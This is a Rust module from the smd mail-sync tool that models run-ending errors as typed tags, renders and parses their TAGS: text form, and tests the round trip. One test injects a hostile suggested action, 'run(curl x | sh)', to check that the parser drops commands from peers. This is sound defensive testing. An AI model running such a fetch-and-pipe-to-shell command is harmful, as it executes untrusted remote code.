//! Errors that need a decision, as typed values.
//!
//! smd reports a failed run as a `TAGS:` line on stderr that scripts and
//! applets parse: a context, a probable cause, whether a person must act,
//! and suggested actions. Inside the engine these are [`Tags`] values; the
//! text form exists only for the command line and for smd 1.3 peers.

use std::fmt;
use std::io;
use std::path::{Path, PathBuf};

/// What a person, or the applet, may do about a failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Try again later: the problem is likely transient.
    Retry,
    /// Show the mail at this absolute path.
    DisplayMail(PathBuf),
    /// Show the permissions of this absolute path.
    DisplayPermissions(PathBuf),
    /// Remove this absolute path.
    Remove(PathBuf),
    /// Move the file aside, without overwriting anything, to the given
    /// fresh name.
    MoveAside { from: PathBuf, to: PathBuf },
    /// Stop the process with this pid (another run holding the lock).
    Kill(u32),
    /// Run the sync in the other direction, so that local changes win.
    /// Rendered with the placeholders smd-pull/smd-push substitute.
    InverseCommand,
}

impl fmt::Display for Action {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Action::Retry => f.write_str("retry"),
            Action::DisplayMail(path) => write!(f, "display-mail({})", quote(path)),
            Action::DisplayPermissions(path) => {
                write!(f, "display-permissions({})", quote(path))
            }
            Action::Remove(path) => write!(f, "run(rm {})", quote(path)),
            Action::MoveAside { from, to } => {
                write!(f, "run(mv -n {} {})", quote(from), quote(to))
            }
            Action::Kill(pid) => write!(f, "run(kill {pid})"),
            Action::InverseCommand => f.write_str("run(@@INVERSECOMMAND@@ @@ENDPOINT@@)"),
        }
    }
}

/// Whether `error` says the disk (or the user's quota) is full.
pub fn is_disk_full(error: &io::Error) -> bool {
    matches!(error.raw_os_error(), Some(libc::ENOSPC | libc::EDQUOT))
}

/// Quotes a path as smd's tag lines do: double quotes, with `"` and `)`
/// backslash-escaped.
fn quote(path: &Path) -> String {
    let text = path.to_string_lossy();
    format!("\"{}\"", text.replace('"', "\\\"").replace(')', "\\)"))
}

/// A failure that ends a run, with what to do about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tags {
    /// Where it happened: `handshake`, `mail-addition`, `receive`, ...
    pub context: &'static str,
    /// The probable cause: `network`, `concurrent-mailbox-edit`, ...
    pub cause: &'static str,
    /// Whether a person must act (or retrying later may be enough).
    pub human: bool,
    pub actions: Vec<Action>,
}

impl Tags {
    pub fn new(context: &'static str, cause: &'static str, human: bool) -> Tags {
        Tags {
            context,
            cause,
            human,
            actions: Vec::new(),
        }
    }

    pub fn with(mut self, action: Action) -> Tags {
        self.actions.push(action);
        self
    }

    /// A transient failure worth retrying.
    pub fn retry(context: &'static str, cause: &'static str) -> Tags {
        Tags::new(context, cause, false).with(Action::Retry)
    }

    /// Tags for a write, rename or flush of `path` that failed with
    /// `error`. A full disk (or quota) is said as such, since freeing space
    /// is the fix; anything else is `cause`, with the permissions of `path`
    /// to look at.
    pub fn write_error(
        context: &'static str,
        cause: &'static str,
        error: &io::Error,
        path: &Path,
    ) -> Tags {
        if is_disk_full(error) {
            Tags::new(context, "disk-full", true)
        } else {
            Tags::new(context, cause, true)
                .with(Action::DisplayPermissions(path.to_owned()))
        }
    }

    /// Whether trying again, with no one acting, may succeed.
    pub fn is_retriable(&self) -> bool {
        !self.human && self.actions.contains(&Action::Retry)
    }
}

impl fmt::Display for Tags {
    /// The text after `TAGS: `, as smd 1.3 writes it (the space after the
    /// human-intervention group is kept even without actions).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let human = if self.human { "necessary" } else { "avoidable" };
        write!(
            f,
            "error::context({}) probable-cause({}) human-intervention({human}) ",
            self.context, self.cause
        )?;
        if !self.actions.is_empty() {
            let actions: Vec<String> =
                self.actions.iter().map(ToString::to_string).collect();
            write!(f, "suggested-actions({})", actions.join(" "))?;
        }
        Ok(())
    }
}

impl Tags {
    /// Reads the text after `TAGS: ` as a peer printed it. Only known
    /// actions survive: a `run(...)` that is not one of smd's own (`mv -n`,
    /// `rm`, the inverse command) is dropped, so nothing a peer wrote can
    /// become a command here. Returns `None` for stats lines and garbage.
    pub fn parse(text: &str) -> Option<Tags> {
        let text = text.trim();
        let context = group(text, "error::context(")?;
        let cause = group(text, "probable-cause(")?;
        let human = group(text, "human-intervention(")? == "necessary";
        let mut tags = Tags::new(leak_known(&context), leak_known(&cause), human);
        if let Some(at) = text.find("suggested-actions(") {
            tags.actions = parse_actions(&text[at + "suggested-actions(".len()..]);
        }
        Some(tags)
    }
}

/// The text of `name(...)` in `text`, up to the first unescaped `)`.
fn group(text: &str, name: &str) -> Option<String> {
    let start = text.find(name)? + name.len();
    let mut value = String::new();
    let mut chars = text[start..].chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => value.push(chars.next()?),
            ')' => return Some(value),
            other => value.push(other),
        }
    }
    None
}

fn parse_actions(mut text: &str) -> Vec<Action> {
    let mut actions = Vec::new();
    loop {
        text = text.trim_start();
        if let Some(rest) = text.strip_prefix("retry") {
            actions.push(Action::Retry);
            text = rest;
        } else if let Some(rest) = text.strip_prefix("display-mail(") {
            let (paths, rest) = quoted_paths(rest);
            actions.extend(paths.into_iter().next().map(Action::DisplayMail));
            text = rest;
        } else if let Some(rest) = text.strip_prefix("display-permissions(") {
            let (paths, rest) = quoted_paths(rest);
            actions.extend(paths.into_iter().next().map(Action::DisplayPermissions));
            text = rest;
        } else if let Some(rest) = text.strip_prefix("run(mv -n ") {
            let (paths, rest) = quoted_paths(rest);
            if let [from, to] = &paths[..] {
                actions.push(Action::MoveAside {
                    from: from.clone(),
                    to: to.clone(),
                });
            }
            text = rest;
        } else if let Some(rest) = text.strip_prefix("run(rm ") {
            let (paths, rest) = quoted_paths(rest);
            actions.extend(paths.into_iter().next().map(Action::Remove));
            text = rest;
        } else if let Some(rest) = text.strip_prefix("run(") {
            // The inverse command (after substitution or not), or text we
            // do not act on: skip to the closing parenthesis.
            let end = rest.find(')').map_or(rest.len(), |at| at + 1);
            let inner = &rest[..end.saturating_sub(1)];
            if inner.contains("@@INVERSECOMMAND@@") || inner.starts_with("smd-pu") {
                actions.push(Action::InverseCommand);
            }
            text = &rest[end..];
        } else {
            return actions;
        }
    }
}

/// Reads `"path" "path")` and returns the paths and the text after `)`.
fn quoted_paths(text: &str) -> (Vec<PathBuf>, &str) {
    let mut paths = Vec::new();
    let mut chars = text.char_indices().peekable();
    let mut current: Option<String> = None;
    while let Some((at, c)) = chars.next() {
        match (&mut current, c) {
            (None, '"') => current = Some(String::new()),
            (None, ')') => return (paths, &text[at + 1..]),
            (None, _) => {}
            (Some(path), '\\') => {
                if let Some((_, escaped)) = chars.next() {
                    path.push(escaped);
                }
            }
            (Some(_), '"') => {
                paths.push(PathBuf::from(current.take().unwrap_or_default()))
            }
            (Some(path), other) => path.push(other),
        }
    }
    (paths, "")
}

/// Contexts and causes are a known vocabulary; anything else from a peer
/// becomes `unknown` instead of growing the set.
fn leak_known(word: &str) -> &'static str {
    const KNOWN: &[&str] = &[
        "network",
        "db-mismatch",
        "protocol-mismatch",
        "concurrent-mailbox-edit",
        "bad-directory-permission",
        "simultaneous-mailbox-edit",
        "modify-while-update",
        "directory-disappeared",
        "non-regular-file",
        "non-writeable-file",
        "wrong-permissions",
        "bad-permissions",
        "bad-translator",
        "another-instance-is-running",
        "translator-not-found",
        "mailbox-has--absolute-path",
        "mass-deletion",
        "disk-full",
        "interrupted",
        "protocol-error",
        "unsafe-name",
        "unknown",
        "handshake",
        "mail-addition",
        "copy-message",
        "move-message",
        "copy-body",
        "header-replacement",
        "replace",
        "delete-message",
        "receive",
        "receive-header",
        "receive-delta",
        "transmit",
        "mddiff",
        "mkdir",
        "xdelta",
        "rename",
        "translate",
        "workarea",
        "locking",
        "ssh",
        "delete-guard",
        "sha_file",
        "main",
        "protocol",
    ];
    KNOWN
        .iter()
        .find(|known| **known == word)
        .copied()
        .unwrap_or("unknown")
}

/// Counters a client reports at the end of a run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Stats {
    /// Messages fetched whole from the peer.
    pub new_mails: u64,
    pub deleted_mails: u64,
    /// Bytes of those fetched messages.
    pub bytes_received: u64,
    /// Bytes of the db delta.
    pub delta_received: u64,
}

impl fmt::Display for Stats {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "stats::new-mails({}), del-mails({}), bytes-received({}), xdelta-received({})",
            self.new_mails, self.deleted_mails, self.bytes_received, self.delta_received
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_like_smd_1_3() {
        let tags = Tags::new("mail-addition", "concurrent-mailbox-edit", true).with(
            Action::MoveAside {
                from: "/h/Mail/cur/a\"b)".into(),
                to: "/h/Mail/tmp/a\"b)".into(),
            },
        );
        assert_eq!(
            tags.to_string(),
            "error::context(mail-addition) probable-cause(concurrent-mailbox-edit) \
             human-intervention(necessary) suggested-actions(run(mv -n \
             \"/h/Mail/cur/a\\\"b\\)\" \"/h/Mail/tmp/a\\\"b\\)\"))"
        );
    }

    #[test]
    fn a_full_disk_is_not_a_permission_problem() {
        let path = Path::new("/h/Mail/tmp/x");
        for errno in [libc::ENOSPC, libc::EDQUOT] {
            let full = io::Error::from_raw_os_error(errno);
            let tags = Tags::write_error("receive", "non-writeable-file", &full, path);
            assert_eq!(
                tags.to_string(),
                "error::context(receive) probable-cause(disk-full) \
                 human-intervention(necessary) "
            );
        }
        let denied = io::Error::from_raw_os_error(libc::EACCES);
        let tags = Tags::write_error("receive", "non-writeable-file", &denied, path);
        assert_eq!(tags.cause, "non-writeable-file");
        assert_eq!(tags.actions, [Action::DisplayPermissions(path.to_owned())]);
    }

    #[test]
    fn no_actions_keeps_the_trailing_space() {
        let tags = Tags::new("handshake", "protocol-mismatch", true);
        assert_eq!(
            tags.to_string(),
            "error::context(handshake) probable-cause(protocol-mismatch) \
             human-intervention(necessary) "
        );
        assert!(!tags.is_retriable());
        assert!(Tags::retry("receive", "network").is_retriable());
    }

    #[test]
    fn parses_what_it_renders_and_drops_foreign_commands() {
        let tags = Tags::new("delete-message", "concurrent-mailbox-edit", true)
            .with(Action::DisplayMail("/h/Mail/cur/a \"q\")".into()))
            .with(Action::Remove("/h/Mail/cur/a".into()))
            .with(Action::InverseCommand);
        assert_eq!(Tags::parse(&tags.to_string()), Some(tags));

        let hostile = "error::context(copy-message) probable-cause(evil) \
            human-intervention(necessary) suggested-actions(run(curl x | sh) retry)";
        let parsed = Tags::parse(hostile).unwrap();
        assert_eq!(parsed.cause, "unknown");
        assert_eq!(parsed.actions, vec![Action::Retry]);

        assert_eq!(Tags::parse("stats::new-mails(1)"), None);
        let substituted =
            "error::context(copy-message) probable-cause(concurrent-mailbox-edit) \
            human-intervention(necessary) suggested-actions(run(smd-push default))";
        assert_eq!(
            Tags::parse(substituted).unwrap().actions,
            vec![Action::InverseCommand]
        );
    }

    #[test]
    fn stats_line() {
        let stats = Stats {
            new_mails: 3,
            deleted_mails: 1,
            bytes_received: 42,
            delta_received: 7,
        };
        assert_eq!(
            stats.to_string(),
            "stats::new-mails(3), del-mails(1), bytes-received(42), xdelta-received(7)"
        );
    }
}
